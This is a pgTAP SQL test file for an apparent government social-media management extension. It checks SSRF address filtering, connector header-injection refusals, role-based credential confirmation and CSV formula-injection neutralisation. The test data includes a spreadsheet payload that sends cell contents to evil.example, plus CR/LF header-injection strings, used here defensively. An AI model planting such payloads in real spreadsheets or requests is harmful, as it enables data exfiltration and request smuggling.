-- The rules smam's HTTP client applies before any byte leaves, without a
-- network: which addresses are special (IANA's special-purpose registries,
-- IPv4 carried in IPv6 judged too, cloud metadata never), networks written
-- in full or refused, a URL's origin; what a connector's definition
-- refuses (as an administrator: {{token}} outside headers, line breaks in
-- headers, private ranges); confirming credentials; and the CSV export of
-- the public index with a real index row, safe for spreadsheets.
\set datadir `echo "$SMAM_DATA_DIR"`
BEGIN;
CREATE EXTENSION pgtap;
CREATE EXTENSION smam;
SELECT plan(90);

CREATE FUNCTION pg_temp.refusal(stmt text) RETURNS text LANGUAGE plpgsql AS $$
DECLARE st text; ms text; dt text; ht text;
BEGIN
  EXECUTE stmt;
  RETURN 'no error';
EXCEPTION WHEN OTHERS THEN
  GET STACKED DIAGNOSTICS st = RETURNED_SQLSTATE, ms = MESSAGE_TEXT, dt = PG_EXCEPTION_DETAIL, ht = PG_EXCEPTION_HINT;
  RETURN st || '|' || (coalesce(ht, '') <> '') || '|' || coalesce(dt, '') || '|' || ms;
END $$;
GRANT EXECUTE ON FUNCTION pg_temp.refusal(text) TO PUBLIC;

-- ---- special addresses ----
SELECT is(smam.address_problem(a), NULL, a || ' is globally routable')
  FROM unnest(ARRAY['8.8.8.8', '2606:4700:4700::1111', '64:ff9b::808:808', '2002:808:808::1', '::ffff:8.8.8.8']) a;
SELECT alike(smam.address_problem(a), '%' || why || '%', a || ': ' || why)
  FROM (VALUES ('64:ff9b::7f00:1', 'carries 127.0.0.1, which is in a loopback range'),        -- NAT64
               ('64:ff9b::a00:1', 'carries 10.0.0.1, which is in a private range'),
               ('2002:7f00:1::1', 'carries 127.0.0.1, which is in a loopback range'),          -- 6to4
               ('2002:a9fe:a9fe::1', 'carries 169.254.169.254, a cloud metadata service'),
               ('::ffff:127.0.0.1', 'carries 127.0.0.1, which is in a loopback range'),        -- mapped
               ('::127.0.0.1', 'in an IPv4-compatible'),                                       -- ::/96
               ('::8.8.8.8', 'IPv4-compatible'),
               ('64:ff9b:1::808:808', 'reserved'),                                             -- local NAT64
               ('::ffff:0:808:808', 'reserved'),                                               -- SIIT
               ('fec0::1', 'site-local'),
               ('fe80::1', 'link-local'),
               ('fd12::1', 'in a private'),
               ('ff02::1', 'multicast'),
               ('100::1', 'reserved'),
               ('2001::1', 'in an IETF protocol assignments'),                                 -- Teredo
               ('2001:db8::1', 'documentation'),
               ('3fff::1', 'documentation'),
               ('198.18.0.1', 'benchmarking'),
               ('198.19.255.254', 'benchmarking'),
               ('192.0.0.1', 'IETF protocol assignments'),
               ('192.0.2.1', 'documentation'),
               ('198.51.100.7', 'documentation'),
               ('203.0.113.9', 'documentation'),
               ('192.88.99.1', '6to4 relay anycast'),
               ('100.64.0.1', 'shared'),
               ('0.1.2.3', 'in an unspecified'),
               ('240.0.0.1', 'reserved'),
               ('255.255.255.255', 'reserved'),
               ('224.0.0.1', 'multicast')) v(a, why);
SELECT is(smam.address_problem('169.254.169.254', '{169.254.0.0/16}'),
  'address 169.254.169.254 is a cloud metadata service, which smam never contacts',
  'the cloud metadata address is refused even where link-local addresses are allowed');
SELECT alike(smam.address_problem('fd00:ec2::254', '{fd00::/8}'), '%cloud metadata service%',
  'so is its IPv6 address, where its range is allowed');
SELECT alike(smam.address_problem('::ffff:169.254.169.254', '{169.254.0.0/16, ::ffff:0:0/96}'), '%cloud metadata service%',
  'and its IPv4-mapped form');
SELECT is(smam.address_problem('127.0.0.1', '{127.0.0.1/32}'), NULL, 'an allowed special range is allowed');
SELECT is(smam.address_problem('::ffff:127.0.0.1', '{127.0.0.1/32}'), NULL, '... in its IPv4-mapped form too');
SELECT is(smam.address_problem('64:ff9b::7f00:1', '{64:ff9b::/96}'), NULL, '... as is a range of IPv6 listed as such');

-- ---- networks: written in full, or refused (parse_network) ----
SELECT is(split_part(pg_temp.refusal(format($$SELECT smam.address_problem('10.1.1.1', ARRAY[%L])$$, n)), '|', 1) || ' '
          || split_part(pg_temp.refusal(format($$SELECT smam.address_problem('10.1.1.1', ARRAY[%L])$$, n)), '|', 4),
          format('22P02 "%s" is not a network', n), format('"%s" is refused as a network', n))
  FROM unnest(ARRAY['10.0.0.0/8x', '10.0.0.0/33', '10.0.0.0/-1', '10.0.0.0/', '10.0.0.0/ 8', '10.0.0.0/+8',
                    'fd00::/129', '10.0.0.0/99999999999999999999', 'ten']) n;
SELECT ok(pg_temp.refusal($$SELECT smam.address_problem('10.1.1.1', ARRAY['10.0.0.0/8x'])$$) LIKE '%requirement 6.2.5%',
  'the detail names requirement 6.2.5');
SELECT is(smam.address_problem('10.1.1.1', '{10.0.0.0/8}'), NULL, '10.0.0.0/8 is a network');
SELECT is(smam.address_problem('10.1.1.1', '{10.1.1.1}'), NULL, 'an address alone is a network of one');

-- ---- origins ----
SELECT is(smam.url_origin('HTTPS://API.X.com/2/tweets?x=1'), 'https://api.x.com:443', 'an origin: scheme, host, port');
SELECT is(smam.url_origin('http://127.0.0.1:8080/p'), 'http://127.0.0.1:8080', '... with its own port');
SELECT is(smam.url_origin('ftp://x.com/'), NULL, '... and none for what is not http(s)');

-- ---- a connector's definition, as an administrator ----
CREATE ROLE n_admin LOGIN; GRANT smam_admin TO n_admin;
CREATE ROLE n_head LOGIN;  GRANT smam_department TO n_head;
CREATE ROLE n_staff LOGIN; GRANT smam_department TO n_staff;
SELECT smam.register_principal('n_admin', 'Admin', 'na@example.gc.ca');
SELECT smam.appoint('n_admin', 'administrator', NULL, '2020-01-01');
SELECT smam.add_department('Department of Networks') AS dept \gset
SELECT smam.register_principal('n_head', 'Head', 'nh@example.gc.ca', :dept);
SELECT smam.register_principal('n_staff', 'Staff', 'ns@example.gc.ca', :dept);
SELECT smam.appoint('n_head', 'head_of_communications', :dept, '2020-01-01');
SELECT smam.appoint('n_staff', 'department_staff', :dept, '2020-01-01');
SET ROLE n_admin;
SELECT is(split_part(r, '|', 1) || ' ' || (split_part(r, '|', 3) LIKE '%requirement 6.1.4%') || ' ' || split_part(r, '|', 4),
          '22023 true connector for x refused: {{token}} outside a header template', '{{token}} ' || what || ' is refused')
  FROM (VALUES ($$publish_path => '/2/tweets?access_token={{token}}'$$, 'in the publish path'),
               ($$publish_path => '/2', body_template => 'message={{text}}&access_token={{token}}', body_format => 'form'$$, 'in a body'),
               ($$publish_path => '/2', metrics_path => '/m/{{token}}'$$, 'in the metrics path'),
               ($$publish_path => '/2', profile_url => 'https://api.x.com/{{token}}'$$, 'in the profile URL')) v(args, what),
       LATERAL pg_temp.refusal(format($$SELECT smam.set_connector('x', 'https://api.x.com', %s)$$, args)) r;
SELECT is(split_part(r, '|', 1) || ' ' || split_part(r, '|', 4),
          '22023 connector for x refused: a header template holds a line break', 'a header template with ' || what || ' is refused')
  FROM (VALUES (E'X-A: b\r\nX-Injected: 1', 'CR LF'), (E'X-A: b\nX-Injected: 1', 'LF'), (E'X-A: b\rc', 'CR')) v(h, what),
       LATERAL pg_temp.refusal(format($$SELECT smam.set_connector('x', 'https://api.x.com', '/2', header_templates => ARRAY[%L])$$, h)) r;
SELECT is(split_part(r, '|', 1) || ' ' || (split_part(r, '|', 3) LIKE '%requirement 6.2.5%') || ' ' || split_part(r, '|', 4),
          '42501 true role "n_admin" may not allow special address ranges', 'an administrator allowing ' || nets || ' is refused')
  FROM unnest(ARRAY['{10.0.0.0/8}', '{169.254.0.0/16}', '{127.0.0.1/32}']) nets,
       LATERAL pg_temp.refusal(format($$SELECT smam.set_connector('x', 'https://api.x.com', '/2', allowed_networks => %L)$$, nets)) r;
SELECT lives_ok($$SELECT smam.set_connector('x', 'https://api.x.com', '/2/tweets',
    header_templates => ARRAY['Authorization: Bearer {{token}}'], body_template => '{"text": {{text}}}')$$,
  'the connector as the docs show it: the token in a header');
RESET ROLE;
SELECT lives_ok($$SELECT smam.set_connector('x', 'https://api.x.com', '/2/tweets',
    header_templates => ARRAY['Authorization: Bearer {{token}}'], allowed_networks => '{10.0.0.0/8}')$$,
  'a superuser allows a private range');
SET ROLE n_admin;
SELECT lives_ok($$SELECT smam.set_connector('x', 'https://api.x.com', '/2/tweets',
    header_templates => ARRAY['Authorization: Bearer {{token}}'], allowed_networks => '{10.0.0.0/8}')$$,
  'an administrator may keep the ranges a superuser allowed');
SELECT lives_ok($$SELECT smam.set_connector('x', 'https://api.x.com', '/2/tweets',
    header_templates => ARRAY['Authorization: Bearer {{token}}'])$$, '... or take them away');
RESET ROLE;
SELECT lives_ok($$SELECT smam.set_connector('x', 'https://api.x.com', '/2', allowed_networks => '{198.18.0.0/15}')$$,
  'a superuser may allow the benchmarking range, a special one');
SELECT alike(pg_temp.refusal($$SELECT smam.set_connector('x', 'https://api.x.com', '/2', allowed_networks => '{8.8.8.0/24}')$$),
  '22023|%is not a loopback, private or link-local range', 'but not a public one');

-- ---- credentials: bound where they were given, confirmed by the head ----
SELECT smam.set_connector('x', 'https://api.x.com', '/2/tweets', header_templates => ARRAY['Authorization: Bearer {{token}}']);
SELECT smam.onboard_account(:dept, 'x', 'https://x.com/networks', 'N', NULL, 'english', 'test') AS acct \gset
SELECT smam.onboard_account(:dept, 'facebook', 'https://www.facebook.com/networks', 'N', NULL, 'english', 'test') AS fb \gset
SET ROLE n_head;
SELECT smam.set_credential(:acct, 'tok-N'), smam.set_credential(:fb, 'tok-F');
RESET ROLE;
SELECT is((SELECT origin || ' ' || (suspended_at IS NULL) FROM smam.account_credential WHERE account_id = :acct),
  'https://api.x.com:443 true', 'a credential is bound to the origin of its platform''s connector');
SELECT is((SELECT (origin IS NULL) || ' ' || suspended_reason FROM smam.account_credential WHERE account_id = :fb),
  'true platform facebook had no connector when the credentials were handed over', 'with no connector, it waits, saying why');
SELECT is(smam.managed_in_tool(:fb), false, '... and the account is not managed in the tool');
SET ROLE n_admin;
SELECT smam.set_connector('x', 'https://api.x.com', '/2/tweets', ARRAY['api.x.com', 'upload.x.com'],
                          header_templates => ARRAY['Authorization: Bearer {{token}}']);
RESET ROLE;
SELECT is((SELECT credentials_suspended || ' ' || managed_in_tool FROM smam.account_tool_status WHERE account_id = :acct),
  'true false', 'a change of the host allowlist suspends the credentials');
SET ROLE n_staff;
SELECT alike(pg_temp.refusal(format('SELECT smam.confirm_credential(%s)', :acct)),
  '42501|true|%requirement 6.1.4%|role "n_staff" may not confirm the credentials of account %', 'staff cannot confirm credentials');
SELECT alike(pg_temp.refusal('SELECT smam.confirm_credential(999999)'),
  '42501|true|Account 999999 does not exist, or %', 'an account that does not exist gets the same answer');
RESET ROLE;
SET ROLE n_head;
SELECT alike(pg_temp.refusal(format('SELECT smam.confirm_credential(%s)', :fb)),
  '55000|true|%|platform facebook has no enabled connector to confirm the credentials for', 'no connector: nothing to confirm for');
SELECT is(smam.confirm_credential(:acct), true, 'the head of communications confirms');
SELECT is(smam.confirm_credential(:acct), false, '... once: they are in use');
SELECT is(smam.managed_in_tool(:acct), true, '... and the account is managed in the tool again');
RESET ROLE;

-- ---- the CSV export, with a real index row ----
CREATE ROLE n_entity LOGIN; GRANT smam_entity TO n_entity;
SELECT smam.register_principal('n_entity', 'Entity', 'ne@example.gc.ca');
SELECT smam.appoint('n_entity', 'entity_official', NULL, '2020-01-01');
CREATE TEMP TABLE real_rows AS
  SELECT split_part(f, E'\n', 1) || E'\n' || (SELECT string_agg(l, E'\n') FROM regexp_split_to_table(f, E'\n') l
                                              WHERE l LIKE '@GCIndigenous,%' OR l LIKE '@GovCanNorth,%') || E'\n' AS csv
    FROM pg_read_file(:'datadir' || '/gc-social-media-index/sm.csv') f;
GRANT SELECT ON real_rows TO PUBLIC;
SET ROLE n_entity;
SELECT is((SELECT created FROM smam.import_index((SELECT csv FROM real_rows))), 2, 'two real rows of the index, named "@..."');
RESET ROLE;
SELECT smam.onboard_account(:dept, 'x', 'https://x.com/formulas', '=HYPERLINK("https://evil.example/?"&A1,"Click")',
                            E'\tTabbed', 'bilingual', 'test');
SELECT smam.onboard_account(:dept, 'x', 'https://x.com/formulas2', '+1+1', '-2-2', 'bilingual', 'test');
CREATE ROLE n_public LOGIN; GRANT smam_public TO n_public;
SET ROLE n_public;
CREATE TEMP TABLE csv_lines AS SELECT l FROM regexp_split_to_table(smam.public_index_csv(), E'\r\n') l WHERE l <> '';
RESET ROLE;
SELECT is((SELECT count(*) FROM csv_lines), 7::bigint, 'the public reads the CSV: a header and six accounts');
SELECT ok((SELECT bool_or(l LIKE '%,"''@GCIndigenous",%') FROM csv_lines), 'the real row''s name "@GCIndigenous" is written ''@GCIndigenous');
SELECT ok((SELECT bool_or(l LIKE '%,"''=HYPERLINK(""https://evil.example/?""&A1,""Click"")",%') FROM csv_lines),
  '=HYPERLINK(...) is written as text, its quotes doubled');
SELECT ok((SELECT bool_or(l LIKE E'%,"''\tTabbed",%') AND bool_or(l LIKE '%,"''+1+1","''-2-2",%') FROM csv_lines),
  'a tab, + and - at the start of a cell are neutralized too');
SELECT is((SELECT count(*) FROM csv_lines, regexp_split_to_table(l, ',(?=")') c WHERE c ~ E'^"[=+\\-@\\t\\r]'), 0::bigint,
  'no cell of the export starts with = + - @ tab or CR');
SELECT is(smam.csv_cell(NULL) || smam.csv_cell('plain') || smam.csv_cell('say "hi"'), '"""plain""say ""hi"""',
  'cells are quoted, quotes doubled, NULL empty');
-- After leading white space too: LibreOffice's CSV import can trim the
-- spaces, then evaluate the formula.
SELECT is(ARRAY[smam.csv_cell(' =1+2'), smam.csv_cell(E'\t\t=1'), smam.csv_cell(E'\n @SUM(A1)'), smam.csv_cell(E'\r\n-1'),
                smam.csv_cell('  +1')],
          ARRAY['"'' =1+2"', E'"''\t\t=1"', E'"''\n @SUM(A1)"', E'"''\r\n-1"', '"''  +1"'],
  '= + - @ after leading spaces, tabs or line breaks are neutralized as well');
SELECT is(ARRAY[smam.csv_cell(' plain'), smam.csv_cell('a=b'), smam.csv_cell('Sci & Tech @ ECCC'), smam.csv_cell(E' \n')],
          ARRAY['" plain"', '"a=b"', '"Sci & Tech @ ECCC"', E'" \n"'],
  'and nothing else: leading spaces before text, = or @ inside a name');

SELECT * FROM finish();
ROLLBACK;
